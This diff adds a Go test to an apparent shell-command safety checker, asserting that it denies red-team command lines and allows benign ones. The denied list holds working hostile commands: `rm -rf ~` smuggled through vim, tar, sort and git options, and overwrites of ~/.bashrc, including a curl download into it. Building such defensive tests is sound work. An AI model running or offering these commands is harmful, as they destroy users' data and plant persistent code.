@@ -214,3 +214,27 @@ func TestTenthRedTeam(t *testing.T) {
 		t.Errorf("cp --parents: %q", got)
 	}
 }
+
+// The tenth red team's second part: vim's clustered flags and :w !sh, curl's
+// --output-dir and %output{}, split's names, command-valued options of tar, sort and
+// git's merge drivers.
+func TestTenthRedTeamSecondPart(t *testing.T) {
+	for _, line := range []string{
+		`ex -sc "w! ~/.bashrc|q" x`, `vim -esc "!rm -rf ~" -c "q!"`, `vim -es -c "norm irm -f x" -c "w !sh" -c "q!"`,
+		`curl -s --output-dir ~ -o .bashrc https://e.com`, `curl -w "%output{~/.bashrc}x" https://e.com`,
+		`split -l1 -a1 --additional-suffix=c s ~/.bash`, `tar --rsh-command="rm -rf ~" -cf h:zz x`,
+		`sort --compress-program="rm -rf ~" big`, `git -c merge.x.driver="rm -rf ~" merge b`,
+		`git -c core.alternateRefsCommand="rm -rf ~" fetch`,
+	} {
+		a, _ := AnalyzeIn(line, Context{Home: "/home/u", Dir: "/work"})
+		if v := Check(a, Config{}); v.Action != Deny {
+			t.Errorf("%q: %s (%s), want deny", line, v.Action, v.Reason)
+		}
+	}
+	for _, line := range []string{`vim -es -c "w !wc -l" -c "q!" f`, `curl --output-dir dl -o page.html https://e.com`, `split -l 100 big.txt part-`, `sort -u x`} {
+		a, _ := AnalyzeIn(line, Context{Home: "/home/u", Dir: "/work"})
+		if v := Check(a, Config{}); v.Action == Deny {
+			t.Errorf("%q: refused (%s)", line, v.Reason)
+		}
+	}
+}
